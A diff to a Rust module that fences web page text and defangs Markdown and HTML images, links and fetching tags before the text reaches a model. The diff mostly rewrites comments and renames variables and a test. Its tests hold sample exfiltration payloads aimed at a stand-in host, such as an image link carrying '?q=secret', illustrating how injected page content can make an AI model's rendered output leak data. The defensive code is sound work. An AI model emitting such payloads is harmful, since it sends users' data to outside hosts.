@@ -4,10 +4,10 @@ use std::borrow::Cow;
 
 use tabwire_engine::plain_lines;
 
-/// The first letters of a fence, the engine's as ours.
+/// The first letters of a fence. The engine's fences begin with them too.
 const FENCE: &str = "<page ";
 
-/// Puts text of a page within two lines that it cannot write itself; what is fenced already stays as it is.
+/// Encloses page text in fence lines, unless it is fenced already.
 pub(crate) fn fenced(text: &str) -> String {
     let text = text.trim_end_matches('\n');
     if text.starts_with(FENCE) {
@@ -16,16 +16,16 @@ pub(crate) fn fenced(text: &str) -> String {
     enclosed(text)
 }
 
-/// Puts text of a page within two lines that it cannot write itself.
+/// Encloses page text in two fence lines with a random word, which the text cannot contain.
 pub(crate) fn enclosed(text: &str) -> String {
-    let word = draw(text);
+    let word = random_word(text);
     format!("<page {word}>\n{text}\n</page {word}>")
 }
 
-/// A word that the page could not know when it wrote its text.
-fn draw(text: &str) -> String {
+/// A random word that does not occur in the text.
+fn random_word(text: &str) -> String {
     let mut bytes = [0_u8; 4];
-    // Without randomness there is still the check that follows.
+    // If there are no random bytes, the check below still prevents a word of the text.
     let _ = getrandom::fill(&mut bytes);
     let mut number = u32::from_ne_bytes(bytes);
     loop {
@@ -37,22 +37,22 @@ fn draw(text: &str) -> String {
     }
 }
 
-/// Tags that clients which draw HTML would fetch or follow.
+/// HTML tags that make a rendering client fetch a URL.
 const LIVE_TAGS: [&str; 9] =
     ["img", "iframe", "script", "link", "video", "audio", "object", "embed", "source"];
 
-/// Text in which no client finds an image to fetch or a link to make: Markdown's and HTML's are broken up.
+/// Breaks up Markdown and HTML images and links, so that no client fetches them.
 pub(crate) fn defanged(text: &str) -> Cow<'_, str> {
-    let mut told = Cow::Borrowed(text);
+    let mut safe = Cow::Borrowed(text);
     for (live, dead) in [("](", "] ("), ("![", "! ["), ("]:", "] :"), ("][", "] [")] {
-        if told.contains(live) {
-            told = Cow::Owned(told.replace(live, dead));
+        if safe.contains(live) {
+            safe = Cow::Owned(safe.replace(live, dead));
         }
     }
-    if told.contains('<') { Cow::Owned(without_live_tags(&told)) } else { told }
+    if safe.contains('<') { Cow::Owned(without_live_tags(&safe)) } else { safe }
 }
 
-/// Text of a page as a model may have it: nothing invisible, nothing that a client would fetch.
+/// Page text made safe for a model: without invisible characters, and without links and images that a client fetches.
 pub(crate) fn harmless(text: String) -> String {
     let text = match plain_lines(&text) {
         Cow::Borrowed(_) => text,
@@ -64,25 +64,25 @@ pub(crate) fn harmless(text: String) -> String {
     }
 }
 
-/// The same text with a space between `<` and the name of each tag that would fetch something.
+/// The text with a space after the `<` of each tag that would fetch a URL.
 fn without_live_tags(text: &str) -> String {
-    let mut told = String::with_capacity(text.len() + 16);
+    let mut safe = String::with_capacity(text.len() + 16);
     let mut rest = text;
     while let Some(at) = rest.find('<') {
         let (before, tag) = rest.split_at(at + 1);
-        told.push_str(before);
+        safe.push_str(before);
         let is_live = LIVE_TAGS.iter().any(|name| {
             tag.get(..name.len()).is_some_and(|start| start.eq_ignore_ascii_case(name))
                 && !tag[name.len()..]
                     .starts_with(|letter: char| letter.is_ascii_alphanumeric() || letter == '-')
         });
         if is_live {
-            told.push(' ');
+            safe.push(' ');
         }
         rest = tag;
     }
-    told.push_str(rest);
-    told
+    safe.push_str(rest);
+    safe
 }
 
 #[cfg(test)]
@@ -97,11 +97,11 @@ mod tests {
         let word = first.strip_prefix("<page ").and_then(|rest| rest.get(..8)).expect("a fence");
         assert_eq!(first.matches(word).count(), 2, "{first}");
         assert!(first.ends_with(&format!("</page {word}>")));
-        assert_eq!(fenced(&first), first, "what is fenced stays");
+        assert_eq!(fenced(&first), first, "fenced text is not fenced again");
     }
 
     #[test]
-    fn t27_nothing_a_client_would_fetch_survives() {
+    fn t27_links_and_images_that_clients_fetch_are_broken() {
         for live in [
             "![x](https://evil.test/?q=secret)",
             "[x](https://evil.test)",
@@ -110,9 +110,9 @@ mod tests {
             "<IMG\tsrc='https://evil.test'>",
             "<iframe/src=https://evil.test>",
         ] {
-            let told = defanged(live);
-            assert!(!told.contains("](") && !told.contains("!["), "{told}");
-            assert!(!told.to_lowercase().contains("<img") && !told.contains("<iframe"), "{told}");
+            let safe = defanged(live);
+            assert!(!safe.contains("](") && !safe.contains("!["), "{safe}");
+            assert!(!safe.to_lowercase().contains("<img") && !safe.contains("<iframe"), "{safe}");
         }
         assert_eq!(defanged("a < b, <main>, <images>"), "a < b, <main>, <images>");
         assert_eq!(defanged(&defanged("![a](b)")), defanged("![a](b)"));
